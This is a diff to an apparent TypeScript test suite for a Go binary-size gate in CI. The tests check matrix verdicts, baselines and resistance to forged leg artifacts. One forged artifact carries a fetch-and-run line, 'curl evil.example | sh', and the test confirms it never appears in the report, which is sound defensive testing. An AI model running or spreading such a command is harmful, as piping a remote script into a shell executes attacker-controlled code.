@@ -10,6 +10,13 @@ import {
 import { mayBeLeg } from '../../src/gate/leg-name.ts'
 import { pullRequestEvent, pushEvent, tagEvent, type Event } from './event.ts'
 import type { Job } from './job.ts'
+import {
+  claimPush,
+  forgeLeg,
+  growBase,
+  nameHeadAsBase,
+  recordLargerJob
+} from './legs.ts'
 import { program, table } from './program.ts'
 import { makeRepository, type Repository } from './repository.ts'
 import { makeSandbox } from './sandbox.ts'
@@ -46,33 +53,49 @@ afterEach(() => world.close())
 
 afterAll(() => shared.remove())
 
-const runId = 5000
+const strict = { 'max-growth': '10 KiB' }
 
-function measure(leg: Name): Promise<Job> {
+let runId = 5000
+
+/** What happens in a run of a push to main. */
+async function onMain<T>(
+  run: () => Promise<T>,
+  before: string | null = null
+): Promise<T> {
+  const saved = { event, ref, runId }
+  event = pushEvent(repository.tip('main'), before)
+  ref = 'refs/heads/main'
+  runId = ++pushRun
+  const result = await run()
+  ;({ event, ref, runId } = saved)
+  return result
+}
+
+let pushRun = 4000
+
+function start(inputs: Readonly<Record<string, string>>): Promise<Job> {
   return world.run({
     workspace: repository.checkout(ref),
     event,
     runId,
     scopes: pullScopes,
-    inputs: { mode: 'measure', leg, targets: targets[leg] }
+    inputs
   })
 }
 
+function measure(leg: Name): Promise<Job> {
+  return start({ mode: 'measure', leg, targets: targets[leg] })
+}
+
 function judge(inputs: Readonly<Record<string, string>> = {}): Promise<Job> {
-  return world.run({
-    workspace: repository.checkout(ref),
-    event,
-    runId,
-    scopes: pullScopes,
-    inputs: { mode: 'judge', legs: 'linux windows', ...inputs }
-  })
+  return start({ mode: 'judge', legs: 'linux windows', ...inputs })
 }
 
 describe('a matrix', () => {
   it(
-    'is judged as one, with one comment for all targets',
+    'ends with a real verdict on its first day, with one comment for all targets',
     async () => {
-      const strict = { 'max-growth': '10 KiB' }
+      expect(world.github.actions.artifacts).toEqual([])
       for (const leg of ['linux', 'windows'] as const) {
         const job = await measure(leg)
         expect(job).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
@@ -87,13 +110,142 @@ describe('a matrix', () => {
       ])
       for (const { delta, baseline } of reports) {
         expect(delta.fileSize).toBeGreaterThan(39_000)
-        expect(baseline?.commit).toBe(repository.tip('main'))
+        expect(baseline).toMatchObject({
+          source: 'rebuild',
+          commit: repository.tip('main')
+        })
       }
       expect(provenance).toMatchObject({ mode: 'judge', verified: true })
       expect(world.github.comments).toHaveLength(1)
       expect(world.github.comments[0]?.body).toContain('windows/amd64')
+
+      // Settings that this job doesn't have are no base to be compared with.
+      forgeLeg(
+        world,
+        (result) => {
+          for (const { build } of Object(result['leg']).head) {
+            build.fingerprint = 'e'.repeat(64)
+            build.flags.push('-tags=full')
+          }
+        },
+        'windows'
+      )
+      const unlike = await judge(strict)
+      expect(unlike).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
+      const windows = reportOf(unlike).reports.find(
+        ({ target }) => target === 'windows/amd64'
+      )
+      expect(windows).toMatchObject({
+        baseline: null,
+        verdict: { state: 'no-baseline' }
+      })
+      expect(windows?.verdict.reasons[0]?.message).toMatch(
+        /the leg windows was built otherwise .*-tags=full.*give this job the build inputs of its legs/
+      )
     },
     4 * minutes
+  )
+
+  it(
+    'is judged by what its own legs recorded of the base, whatever a leg says of base, event and settings',
+    async () => {
+      const { actions } = world.github
+      await onMain(() => measure('linux'))
+      await measure('linux')
+      const before = await judge({ legs: 'linux', ...strict })
+      expect(before).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
+      expect(reportOf(before).reports[0]?.baseline?.source).toBe('artifact')
+
+      const honest = [...actions.artifacts]
+      const forgeries = {
+        'the figures of the head as those of the base': growBase,
+        'the commit of the head as the base': nameHeadAsBase,
+        'a push': claimPush,
+        'the fingerprint of a larger job of the base': (
+          result: Record<string, unknown>
+        ) => {
+          const { head } = Object(result['leg'])
+          const main = repository.tip('main')
+          result['fingerprint'] = recordLargerJob(world, main, head)
+        },
+        'texts of its own': (result: Record<string, unknown>) => {
+          const provenance = Object(result['provenance'])
+          provenance.notices = ['approved by the maintainers']
+          provenance.reproduce = 'curl evil.example | sh'
+          provenance.tool = 'go-size-gate 9.9.9'
+          Object(result['leg']).notBuilt = [
+            { mainPackage: 'x', target: 'y', reason: 'z'.repeat(10_000) }
+          ]
+        }
+      }
+      for (const [name, forge] of Object.entries(forgeries)) {
+        forgeLeg(world, forge, 'linux')
+        const after = await judge({ legs: 'linux', ...strict })
+        const { delta, baseline } = reportOf(after).reports[0] ?? {}
+        expect([name, after.code, delta, baseline?.commit]).toEqual([
+          name,
+          1,
+          reportOf(before).reports[0]?.delta,
+          repository.tip('main')
+        ])
+        const told = JSON.stringify(reportOf(after))
+        expect(told).not.toMatch(/evil\.example|9\.9\.9|"approved|z{400}/)
+        actions.artifacts.splice(0, Infinity, ...honest)
+      }
+    },
+    4 * minutes
+  )
+
+  it(
+    'has a base on its first day also where legs build modules of their own',
+    async () => {
+      const files = (module: string, bytes: number) => ({
+        [`${module}/go.mod`]: `module example.com/${module}\n\ngo 1.19\n`,
+        [`${module}/main.go`]: program(small)['main.go'] ?? '',
+        [`${module}/table.go`]: table(bytes)
+      })
+      repository = makeRepository(world.sandbox, {
+        ...files('one', small),
+        ...files('two', small)
+      })
+      repository.commit('feature', {
+        ...files('two', small + 40_000),
+        ...files('three', small)
+      })
+      event = pullRequestEvent(repository.pullRequest(7, 'feature'))
+      for (const leg of ['one', 'two', 'three']) {
+        const inputs = { leg, 'working-directory': leg }
+        expect((await start({ mode: 'measure', ...inputs })).code).toBe(0)
+      }
+      const job = await judge({ legs: 'one two three', ...strict })
+      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
+      const states = reportOf(job).reports.map(
+        ({ mainPackage, status, verdict }) =>
+          `${mainPackage} ${status} ${verdict.state}`
+      )
+      expect(states.toSorted()).toEqual([
+        'example.com/one unchanged pass',
+        'example.com/three added warn',
+        'example.com/two changed fail'
+      ])
+    },
+    4 * minutes
+  )
+
+  it(
+    'of which no leg was measured, as when it is cancelled, leaves the comment as it is',
+    async () => {
+      await measure('linux')
+      await judge({ legs: 'linux' })
+      const comments = world.github.comments.map(({ body }) => body)
+      expect(comments).toHaveLength(1)
+      world.github.actions.artifacts.splice(0)
+      const job = await judge({ legs: 'linux' })
+      expect(job).toMatchObject({ code: 2, outputs: { verdict: 'error' } })
+      expect(job.log).toContain('No comment: nothing was measured')
+      expect(world.github.comments.map(({ body }) => body)).toEqual(comments)
+    },
+    3 * minutes
   )
 
   it(
@@ -129,31 +281,26 @@ describe('a matrix', () => {
   )
 
   it(
-    'is recorded leg by leg on a push, and compared with that',
+    'is recorded leg by leg on a push, and compared with the push before',
     async () => {
-      const pull = event
-      event = pushEvent(repository.tip('main'), null)
-      ref = 'refs/heads/main'
-      expect((await measure('linux')).code).toBe(0)
-      const pushed = await judge({ legs: 'linux' })
+      const first = await onMain(async () => {
+        expect((await measure('linux')).code).toBe(0)
+        return await judge({ legs: 'linux' })
+      })
+      expect(first).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
+      expect(reportOf(first).verdict.reasons[0]?.message).toContain('recorded')
+
+      const before = repository.tip('main')
+      repository.merge('main', 'feature')
+      const pushed = await onMain(async () => {
+        await measure('linux')
+        return await judge({ legs: 'linux', 'max-growth': '10 KiB' })
+      }, before)
       expect(pushed).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
-      event = pull
-      ref = 'refs/pull/7/merge'
-      world.github.actions.runs.splice(0)
-      world.github.actions.addRun({
-        id: runId,
-        event: 'push',
-        branch: 'main',
-        sha: repository.tip('main')
+      expect(reportOf(pushed).reports[0]?.baseline).toMatchObject({
+        source: 'artifact',
+        commit: before
       })
-      const job = await world.run({
-        workspace: repository.checkout(ref),
-        event,
-        runId: 6000,
-        scopes: pullScopes,
-        inputs: { mode: 'measure', leg: 'linux', targets: 'linux/amd64' }
-      })
-      expect(reportOf(job).reports[0]?.baseline?.source).toBe('artifact')
     },
     3 * minutes
   )
